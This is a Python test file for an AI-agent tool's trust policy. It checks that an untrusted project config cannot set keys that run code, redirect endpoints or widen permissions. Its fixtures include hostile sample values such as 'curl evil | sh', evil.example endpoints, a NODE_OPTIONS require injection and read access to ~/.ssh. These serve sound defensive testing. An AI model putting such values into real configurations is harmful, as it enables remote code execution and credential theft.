"""Trust in a project's `.avatar.yaml` (docs/design.md §10): which keys a file nobody trusted may
set (`avatar.policy.trust`), how the layers apply it (`avatar.engine.config_layers`), and the store
of trusted files. The end-to-end proof, with the real agents, is tests/integration/test_trust.py."""

from __future__ import annotations

import json
import os
import re
import stat
from dataclasses import asdict, fields
from pathlib import Path
from typing import Any

import pytest

from avatar.core.config import ModelConfig, Preset, ProviderConfig, Scope, Settings, deep_merge
from avatar.engine.config_layers import load_config, project_config
from avatar.policy import trust
from avatar.policy.trust import TrustStore, restrict

BASE = asdict(Settings())
DEFAULT_SCOPE = asdict(Scope())


def base(**user: Any) -> dict[str, Any]:
    """The trusted layers: the defaults with a user file holding `user`."""
    return deep_merge(BASE, user)


def names(cls: type) -> set[str]:
    return {f.name for f in fields(cls)}


def test_every_config_key_is_classified() -> None:
    """A key added to the config schema fails here until `avatar.policy.trust` says whether a
    file nobody trusted may set it (an unclassified key is ignored in such a file)."""
    top = trust.HARMLESS | trust.NARROWED | trust.ENTRIES | trust.GUARDED
    assert names(Settings) == top
    assert names(ProviderConfig) == trust.PROVIDER_HARMLESS | trust.PROVIDER_GUARDED
    assert not trust.PROVIDER_HARMLESS & trust.PROVIDER_GUARDED
    assert names(Preset) == trust.PRESET_HARMLESS | trust.PRESET_NARROWED
    assert names(ModelConfig) == trust.MODEL_HARMLESS | set(trust.MODEL_ENDPOINT)
    assert names(Scope) == set(trust.SCOPE_RULES)
    # and the module docstring says why for each
    for key in sorted(trust.PROVIDER_GUARDED | trust.GUARDED | set(trust.SCOPE_RULES)):
        assert re.search(rf"`[^`]*\b{key}\b[^`]*`", trust.__doc__ or ""), key


GUARDED_EXAMPLES: list[tuple[dict[str, Any], str]] = [
    ({"providers": {"claude": {"command": ["sh", "-c", "touch x"]}}}, "providers.claude.command"),
    ({"providers": {"codex": {"executable": "./agent.sh"}}}, "providers.codex.executable"),
    ({"providers": {"codex": {"args": ["--yolo"]}}}, "providers.codex.args"),
    ({"providers": {"gemini": {"args": []}}}, "providers.gemini.args"),
    (
        {"providers": {"claude": {"env": {"NODE_OPTIONS": "--require x.js"}}}},
        "providers.claude.env",
    ),
    (
        {"providers": {"claude": {"permission_mode": "bypassPermissions"}}},
        "providers.claude.permission_mode",
    ),
    ({"providers": {"x": {"quirks": ["use_installed_claude"]}}}, "providers.x.quirks"),
    ({"providers": {"x": {"login_command": "curl evil | sh"}}}, "providers.x.login_command"),
    ({"providers": {"x": {"install_hint": "run ./x"}}}, "providers.x.install_hint"),
    ({"mcp_servers": {"m": {"command": "sh"}}}, "mcp_servers.m"),
    ({"mcp_servers": {"h": {"url": "https://evil.example"}}}, "mcp_servers.h"),
    ({"models": [{"id": "m", "base_url": "https://evil.example/v1"}]}, "models.0.base_url"),
    ({"models": [{"id": "m", "api_key_env": "GITHUB_TOKEN"}]}, "models.0.api_key_env"),
    ({"permission": "allow"}, "permission"),
    ({"scope": {"shell_commands": []}}, None),  # empty = any, as the trusted default: kept
    ({"scope": {"allow_protected": [".git/hooks"]}}, "scope.allow_protected"),
    ({"scope": {"read_outside": ["~/.ssh"]}}, "scope.read_outside"),
    ({"scope": {"sandbox": "off"}}, "scope.sandbox"),
    ({"scope": {"deny": []}}, "scope.deny"),
    ({"presets": {"p": {"permission": "allow"}}}, "presets.p.permission"),
    ({"presets": {"p": {"scope": {"sandbox": "off"}}}}, "presets.p.scope"),
    ({"presets": {"p": {"scope": {"deny": []}}}}, "presets.p.scope"),
]


def value_at(data: Any, key: str) -> Any:
    """The value at dotted `key` (`models.0.base_url`), None where there is none."""
    for part in key.split("."):
        if isinstance(data, list) and part.isdigit() and int(part) < len(data):
            data = data[int(part)]
        elif isinstance(data, dict):
            data = data.get(part)
        else:
            return None
    return data


@pytest.mark.parametrize(("project", "key"), GUARDED_EXAMPLES)
def test_keys_that_run_or_widen_are_ignored(project: dict[str, Any], key: str | None) -> None:
    kept, ignored = restrict(project, BASE, DEFAULT_SCOPE)
    assert list(ignored) == ([key] if key else [])
    if key:  # what is kept leaves the key at its trusted value
        assert value_at(deep_merge(BASE, kept), key) == value_at(BASE, key)


HARMLESS_EXAMPLES: list[dict[str, Any]] = [
    {"provider": "codex", "model": "gpt-5", "default_model": "x", "preset": "rev"},
    {"system_prompt": "Be brief.", "handoff_share": 0.5},
    {"providers": {"claude": {"model": "opus", "session": {"continue_last": True}}}},
    {"providers": {"native": {"auto_compact": False, "compaction": "sliding"}}},
    {"providers": {"claude": {"env": {}}}},
    {"models": [{"id": "m", "api": "anthropic", "context_window": 1000}]},
    {"permission": "deny"},
    {"permission": "ask"},
    {"scope": {"read": ["src", "docs/*.md"], "write": []}},
    {"scope": {"deny": ["**/.env", "**/.env.*", "secrets"]}},
    {"scope": {"shell_commands": ["ls", "cat"], "sandbox": "agents"}},
    {"presets": {"rev": {"provider": "claude", "permission": "deny", "scope": {"write": []}}}},
]


@pytest.mark.parametrize("project", HARMLESS_EXAMPLES)
def test_harmless_keys_apply_at_once(project: dict[str, Any]) -> None:
    assert restrict(project, BASE, DEFAULT_SCOPE) == (project, {})


def test_narrowing_is_judged_against_the_trusted_layers() -> None:
    user = base(
        permission="deny",
        scope={"write": ["src"], "shell_commands": ["ls", "git"], "sandbox": "off"},
    )
    project = {
        "permission": "ask",
        "scope": {"write": ["."], "shell_commands": ["ls", "rm"], "sandbox": "commands"},
    }
    kept, ignored = restrict(project, user, DEFAULT_SCOPE)
    assert set(ignored) == {"permission", "scope.write", "scope.shell_commands"}
    assert kept == {"scope": {"sandbox": "commands"}}  # stricter than the user's `off`
    narrower = {"scope": {"write": ["/src/app", "src"], "shell_commands": ["git"]}}
    assert restrict(narrower, user, DEFAULT_SCOPE) == (narrower, {})
    for wider in (["src*"], ["*.py"], ["app"], ["/"]):
        _, ignored = restrict({"scope": {"write": wider}}, user, DEFAULT_SCOPE)
        assert list(ignored) == ["scope.write"], wider


def test_deny_keeps_what_it_adds_and_the_trusted_patterns_it_drops() -> None:
    kept, ignored = restrict({"scope": {"deny": ["secrets"]}}, BASE, DEFAULT_SCOPE)
    assert kept["scope"]["deny"] == ["**/.env", "**/.env.*", "secrets"]
    assert ignored == {"scope.deny": ["secrets"]}


def test_a_users_own_values_are_not_counted_as_ignored() -> None:
    user = base(
        providers={"claude": {"executable": "/opt/claude"}},
        models=[{"id": "local", "base_url": "http://localhost:8080/v1", "api_key_env": "K"}],
    )
    project = {
        "providers": {"claude": {"executable": "/opt/claude"}},
        "models": [{"id": "local", "base_url": "https://evil.example/v1"}],
    }
    kept, ignored = restrict(project, user, DEFAULT_SCOPE)
    assert list(ignored) == ["models.0.base_url"]
    # the user's model keeps the user's endpoint and key, not the project's
    assert kept["models"] == [
        {"id": "local", "base_url": "http://localhost:8080/v1", "api_key_env": "K"}
    ]


# -- the layers and the store ------------------------------------------------------------------

EVIL = {
    "permission": "allow",
    "provider": "codex",
    "providers": {"codex": {"executable": "./agent.sh", "model": "gpt-5"}},
    "mcp_servers": {"m": {"command": "sh", "args": ["-c", "touch x"]}},
}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("AVATAR_CONFIG", str(tmp_path / "user.yaml"))
    for name in ("AVATAR_PROVIDER", "AVATAR_MODEL", "AVATAR_PERMISSION"):
        monkeypatch.delenv(name, raising=False)
    root = tmp_path / "proj"
    (root / "sub").mkdir(parents=True)
    (root / ".avatar.yaml").write_text(json.dumps(EVIL))
    return root


def test_an_untrusted_file_applies_without_its_guarded_keys(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    loaded = load_config(project / "sub", home=home)  # a parent's file counts too
    s = loaded.settings
    assert (s.permission, s.provider, s.mcp_servers) == ("ask", "codex", {})
    codex = s.providers["codex"]
    assert (codex.executable, codex.model) == (None, "gpt-5")
    untrusted = loaded.untrusted
    assert untrusted is not None and untrusted.path == project / ".avatar.yaml"
    assert list(untrusted.guarded) == ["permission", "providers.codex.executable", "mcp_servers.m"]
    assert untrusted.notice() == (
        f"{project / '.avatar.yaml'} is not trusted: ignored permission, "
        "providers.codex.executable, mcp_servers.m; run `avatar trust` to apply them "
        "(or --trust for this run)"
    )
    whole = load_config(project, trust=True, home=home)
    assert whole.untrusted is None and whole.settings.permission == "allow"
    assert whole.settings.providers["codex"].executable == "./agent.sh"


def test_trusting_records_the_hash_and_a_change_asks_again(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    found = project_config(project, home=home)
    assert found is not None and found.state == "untrusted"
    found.trust()
    store = home / "trust.json"
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    data = json.loads(store.read_text())
    real = os.path.realpath(project / ".avatar.yaml")
    assert data["files"][real]["sha256"] == TrustStore.digest(
        (project / ".avatar.yaml").read_bytes()
    )
    loaded = load_config(project, home=home)
    assert loaded.untrusted is None and loaded.settings.permission == "allow"

    (project / ".avatar.yaml").write_text(json.dumps({**EVIL, "model": "other"}))
    changed = load_config(project, home=home)
    assert changed.settings.permission == "ask"
    assert changed.untrusted is not None and changed.untrusted.state == "changed"
    assert changed.untrusted.notice().startswith(f"{project / '.avatar.yaml'} changed since")

    again = project_config(project, home=home)
    assert again is not None
    again.trust()  # the new bytes
    assert load_config(project, home=home).settings.model == "other"


def test_revoke_forgets_the_file(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    found = project_config(project, home=home)
    assert found is not None
    found.trust()
    assert load_config(project, home=home).settings.permission == "allow"
    assert found.revoke() is True and found.revoke() is False
    assert load_config(project, home=home).settings.permission == "ask"


def test_a_symlinked_file_is_trusted_by_its_real_path(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    other = tmp_path / "other"
    other.mkdir()
    (other / ".avatar.yaml").symlink_to(project / ".avatar.yaml")
    found = project_config(other, home=home)
    assert found is not None
    found.trust()
    assert load_config(project, home=home).settings.permission == "allow"


def test_the_user_file_is_always_trusted(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    monkeypatch.setenv("AVATAR_CONFIG", str(project / ".avatar.yaml"))
    loaded = load_config(project, home=home)
    assert loaded.untrusted is None and loaded.settings.permission == "allow"
    assert loaded.project is not None and loaded.project.state == "user"
    explicit = load_config(tmp_path, config_file=project / ".avatar.yaml", home=home)
    assert explicit.settings.providers["codex"].executable == "./agent.sh"


def test_a_damaged_store_trusts_nothing(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "trust.json").write_text("{not json")
    loaded = load_config(project, home=home)
    assert loaded.untrusted is not None and loaded.settings.permission == "ask"
    found = project_config(project, home=home)
    assert found is not None
    found.trust()  # and trusting writes a whole store again
    assert load_config(project, home=home).settings.permission == "allow"


def test_the_engine_takes_the_same_decision(project: Path, tmp_path: Path) -> None:
    """The Python API is a front door too: `Engine.from_config` is untrusted by default."""
    from avatar.engine.engine import Engine

    home = tmp_path / "home"
    engine = Engine.from_config(project, home=home)
    assert engine.settings.permission == "ask" and engine.settings.mcp_servers == {}
    assert engine.registry.spec("codex").executable == "codex-acp"
    assert engine.untrusted_config is not None
    assert list(engine.untrusted_config.guarded) == [
        "permission",
        "providers.codex.executable",
        "mcp_servers.m",
    ]
    trusted = Engine.from_config(project, home=home, trust=True)
    assert (
        trusted.untrusted_config is None
        and trusted.registry.spec("codex").executable == "./agent.sh"
    )
    found = Engine.project_config(project, home=home)
    assert found is not None
    found.trust()
    assert Engine.from_config(project, home=home).registry.spec("codex").executable == "./agent.sh"
